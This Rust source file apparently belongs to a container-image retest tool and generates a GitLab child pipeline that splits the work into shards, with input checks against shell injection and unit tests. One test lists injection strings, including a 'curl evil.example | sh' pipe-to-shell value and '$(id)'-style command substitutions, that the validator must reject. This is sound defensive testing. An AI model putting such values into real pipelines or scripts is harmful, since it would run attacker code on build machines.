//! `plimsoll plan`: splits a retest over runners, as a child pipeline of at most 199 jobs and one that puts the results
//! together.
//!
//! The names of the images are arguments in the pipeline itself, so that its jobs list nothing, need no artifacts of this
//! one, and cannot be turned to other images by a variable of the project. What a child pipeline does not know of its
//! parent they are told in the same way: whether this is the first run, and whether they may write the memory.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs;

use jiff::Timestamp;
use tracing::{info, warn};

use crate::assess::select::Decision;
use crate::cli::PlanArgs;
use crate::context::Environment;
use crate::exit::Exit;
use crate::model::{Code, Diagnosis, StateIndex};
use crate::settings::Settings;

use super::images::listing::{self, Listing};
use super::retest::{memory, span};

pub(super) fn run(args: &PlanArgs, environment: &Environment, settings: &Settings) -> Result<Exit, Diagnosis> {
    let selection = listing::selection(&args.selection, settings)?;
    let every = span("every", environment.get("PLIMSOLL_EVERY"))?;
    let shards = args.shards.unwrap_or(SHARDS).clamp(1, MOST_SHARDS);
    let policy = args.fail_on.as_deref().unwrap_or(NO_POLICY);
    // The policy becomes a part of a script.
    if policy != NO_POLICY {
        super::gate::policy(Some(policy), environment)?;
    }
    let image = args.image.as_deref().or_else(|| environment.get("CI_JOB_IMAGE")).unwrap_or_default();
    super::alert::channels(&args.notify)?;
    let state = args.selection.state.as_ref().map(|path| path.display().to_string());
    for (what, text) in [("--image", image), ("--fail-on", policy), ("--state", state.as_deref().unwrap_or_default())] {
        if text.contains(|c: char| c.is_control() || "'\"$\\`".contains(c)) {
            let why = format!("`{text}` holds quotes, `$`, `\\` or control characters");
            let fix = "leave them out; they cannot be passed on to the jobs of a child pipeline";
            return Err(Diagnosis::new(Code::InvalidInput, format!("{what} cannot be used"), why, fix));
        }
    }
    let now = Timestamp::now();
    let (index, first_run) = match memory::open_to_read(args.selection.state.as_deref(), environment, now) {
        Ok(state) => (state.index().clone(), memory::is_first_run(state.index())),
        Err(diagnosis) => {
            warn!("{diagnosis}");
            (StateIndex::new(now), false)
        }
    };
    let remember = state.is_none() && memory::is_writable(environment);
    if state.is_none() && !remember {
        warn!("the jobs will not write the memory: {}", memory::READ_ONLY);
    }
    let mut listing = Listing::take(&args.selection, settings, environment)?;
    let decisions = listing.select(&selection, &index, now, listing::JOBS);
    for notice in &listing.notices {
        warn!("{notice}");
    }
    let mut images: Vec<(String, String, u64)> = Vec::new();
    for (tag, decision) in listing.tags.iter().zip(&decisions) {
        let known = index.images.get(&tag.name());
        let last = known.filter(|one| one.failure.is_none()).and_then(|one| one.last_scanned);
        let recent = last.zip(every).is_some_and(|(last, every)| now.duration_since(last) < every);
        if matches!(decision, Decision::Selected(_)) && !tag.vanished && !recent {
            let weight = if known.is_some_and(|one| one.config_digest.is_some()) { RETESTED } else { READ };
            images.push((tag.repository.clone(), tag.name(), weight));
        }
    }
    // What is not listed any more is asked for once more, and then known to be gone.
    for gone in listing.gone(&index).into_iter().filter(|one| one.gone.is_none()) {
        images.push((gone.repository.clone(), gone.name.clone(), RETESTED));
    }
    images.retain(|(_, name, _)| {
        let is_plain = is_plain(name);
        if !is_plain {
            warn!("left out: `{}` is no name of an image", name.escape_debug());
        }
        is_plain
    });
    let shards = split(images, shards);
    if shards.is_empty() {
        let why = format!("none of {} tags is selected and due", listing.tags.len());
        let fix = "change the selection; `plimsoll images --dry-run` says why each tag is in or out";
        warn!("{}", Diagnosis::new(Code::NotSelected, "there is nothing to retest", why, fix));
    }
    let parent = environment.get("CI_PIPELINE_ID").and_then(|id| id.parse().ok());
    let notify = args.notify.join(",");
    let child = Child { image, policy, notify: &notify, parent, state: state.as_deref(), first_run, remember };
    let text = child.pipeline(&shards);
    fs::write(&args.to, text).map_err(|error| {
        let what = format!("cannot write the child pipeline `{}`", args.to.display());
        Diagnosis::new(Code::ReportNotWritten, what, error.to_string(), "name another file with --to")
    })?;
    info!("{} images in {} jobs: {}", shards.iter().map(Vec::len).sum::<usize>(), shards.len(), args.to.display());
    // The child pipeline says so too: a job that fails here would be in the way of the next schedule.
    Ok(Exit::Done)
}

/// Whether a name can stand in a script as it is. What is remembered can be written by whoever may store packages.
fn is_plain(name: &str) -> bool {
    let known = |byte: u8| byte.is_ascii_alphanumeric() || b"._-/:@".contains(&byte);
    name.bytes().all(known) && name.starts_with(|first: char| first.is_ascii_alphanumeric())
}

/// Splits images into parts of about the same work. Images of a repository stay together where that is possible, as they
/// share layers.
fn split(images: Vec<(String, String, u64)>, most: usize) -> Vec<Vec<String>> {
    let total: u64 = images.iter().map(|(_, _, weight)| weight).sum();
    let count = usize::try_from(total.div_ceil(LEAST)).unwrap_or(most).clamp(1, most).min(images.len());
    if count == 0 {
        return Vec::new();
    }
    let share = total.div_ceil(count as u64).max(1);
    let mut repositories: BTreeMap<String, Vec<(String, u64)>> = BTreeMap::new();
    for (repository, name, weight) in images {
        repositories.entry(repository).or_default().push((name, weight));
    }
    let mut parts: Vec<(u64, Vec<String>)> = vec![(0, Vec::new())];
    for (name, weight) in repositories.into_values().flatten() {
        let full = parts.last().is_some_and(|(sum, names)| sum + weight > share && !names.is_empty());
        if full && parts.len() < count {
            parts.push((0, Vec::new()));
        }
        if let Some((sum, names)) = parts.last_mut() {
            *sum += weight;
            names.push(name);
        }
    }
    parts.into_iter().map(|(_, names)| names).filter(|names| !names.is_empty()).collect()
}

/// What all jobs of the child pipeline are to know.
struct Child<'a> {
    image: &'a str,
    policy: &'a str,
    notify: &'a str,
    /// The pipeline that people see.
    parent: Option<u64>,
    state: Option<&'a str>,
    first_run: bool,
    remember: bool,
}

impl Child<'_> {
    /// The child pipeline. Names of images, which [`is_plain`] has seen, are the only text of others in it.
    fn pipeline(&self, shards: &[Vec<String>]) -> String {
        let mut text = String::from("# Written by `plimsoll plan`.\nstages: [retest, report]\n\n");
        if shards.is_empty() {
            text.push_str("nothing_to_retest:\n  stage: report\n  variables: {GIT_STRATEGY: none}\n");
            text.push_str("  script: [\"echo nothing is selected and due\"]\n");
            return text;
        }
        let image = match self.image {
            "" => String::new(),
            image => format!("  image:\n    name: '{image}'\n    entrypoint: [\"\"]\n"),
        };
        // Whether there is a gate is remembered with each image.
        let variables = format!("  variables: {{PLIMSOLL_JOB_FAIL_ON: '{}'}}\n", self.policy);
        for (index, names) in shards.iter().enumerate() {
            let number = index + 1;
            let _ = write!(
                text,
                "retest_{number}:\n  stage: retest\n{image}{variables}  script:\n    - |\n      {} --out plimsoll-shards/{number} -- \\\n        \
                 {}\n  artifacts:\n    when: always\n    access: developer\n    paths: [plimsoll-shards/{number}/]\n\n",
                self.retest(),
                names.join(" \\\n        ")
            );
        }
        text.push_str(&self.report(&image));
        text
    }

    /// The command of a part. What was settled here is settled: no variable selects again.
    fn retest(&self) -> String {
        let mut command = String::from("plimsoll retest --select all --every 0h --keep-going");
        if let Some(path) = self.state {
            let _ = write!(command, " --state '{path}'");
        }
        let flags = [
            (self.first_run, " --first-run"),
            (self.remember, " --remember"),
            (self.remembers_told(), " --tell-later"),
        ];
        for (is_set, flag) in flags {
            command.push_str(if is_set { flag } else { "" });
        }
        command
    }

    /// Whether what is new counts as told when the last job has told it, so that nothing is lost where that never runs.
    fn remembers_told(&self) -> bool {
        !matches!(self.notify, "" | "none") && (self.remember || self.state.is_some())
    }

    /// The job that puts the results together, tells what is new, and enforces the policy.
    fn report(&self, image: &str) -> String {
        let gate = match self.policy {
            NO_POLICY => String::new(),
            policy => format!(
                "    - |\n      plimsoll gate --report plimsoll-report/plimsoll.json --fail-on '{policy}' || status=${{status:-$?}}\n"
            ),
        };
        let pipeline = self.parent.map_or_else(String::new, |id| format!(" --pipeline {id}"));
        let state = self.state.map_or_else(String::new, |path| format!(" --state '{path}'"));
        let remember = if self.remembers_told() { format!(" --remember{state}") } else { String::new() };
        let alert = match self.notify {
            "" | "none" => String::new(),
            channels => format!(
                "    - |\n      plimsoll alert --changes plimsoll-report/plimsoll-snapshots.json --report \
                 plimsoll-report/plimsoll.json --out plimsoll-report --notify {channels}{pipeline}{remember} || status=${{status:-$?}}\n"
            ),
        };
        format!(
            "retest_report:\n  stage: report\n{image}  when: always\n  variables:\n    GIT_STRATEGY: none\n  script:\n    \
             - plimsoll retest --merge plimsoll-shards --out plimsoll-report || status=$?\n{alert}{gate}    - exit \"${{status:-0}}\"\n  \
             artifacts:\n    when: always\n    access: developer\n    expose_as: Retest\n    paths: [plimsoll-report/]\n    \
             reports:\n      container_scanning: plimsoll-report/gl-container-scanning-report.json\n"
        )
    }
}

const SHARDS: usize = 20;
/// With the job that reports, 200. GitLab's default limit for a child pipeline is higher; more at once help nobody.
const MOST_SHARDS: usize = 199;
/// Judging a stored inventory, and reading an image, in about a tenth of a second.
const RETESTED: u64 = 1;
const READ: u64 = 50;
/// A job for less is not worth its start.
const LEAST: u64 = 100;
const NO_POLICY: &str = "never";

#[cfg(test)]
mod tests {
    use super::*;

    fn images(repositories: usize, tags: usize, weight: u64) -> Vec<(String, String, u64)> {
        let one = |r: usize, t: usize| (format!("reg.io/{r}"), format!("reg.io/{r}:{t}"), weight);
        (0..repositories).flat_map(|r| (0..tags).map(move |t| one(r, t))).collect()
    }

    #[test]
    fn names_that_are_no_names_stay_out_of_scripts() {
        for (name, expected) in [
            ("registry.example.com:5000/g/p_x/app:1.0-rc1", true),
            ("reg.io/g@sha256:0a1b", true),
            ("", false),
            ("-rf", false),
            ("reg.io/g:1; curl evil.example | sh #", false),
            ("reg.io/g:$(id)", false),
            ("reg.io/g:1\n  - id", false),
            ("reg.io/g:`id`", false),
        ] {
            assert_eq!(is_plain(name), expected, "{name:?}");
        }
    }

    #[test]
    fn splits_evenly_and_loses_nothing() {
        for (repositories, tags, weight, most, expected) in [
            (0, 0, 1, 20, 0),
            (1, 3, RETESTED, 20, 1),
            (1, 3, READ, 20, 2),
            (3, 1, READ, 2, 2),
            (100, 100, RETESTED, 20, 20),
            (100, 100, RETESTED, 199, 100),
            (1, 10_000, READ, 199, 199),
        ] {
            let all = images(repositories, tags, weight);
            let shards = split(all.clone(), most);
            let what = format!("{repositories} × {tags}");
            assert_eq!(shards.len(), expected, "{what}");
            let mut names: Vec<String> = shards.iter().flatten().cloned().collect();
            let mut wanted: Vec<String> = all.into_iter().map(|(_, name, _)| name).collect();
            names.sort();
            wanted.sort();
            assert_eq!(names, wanted, "{what}");
            let sizes = shards.iter().map(Vec::len);
            if let (Some(least), Some(most)) = (sizes.clone().min(), sizes.max()) {
                assert!(most <= 2 * least.max(1) + 1, "{what}: {least} to {most}");
            }
        }
    }
}
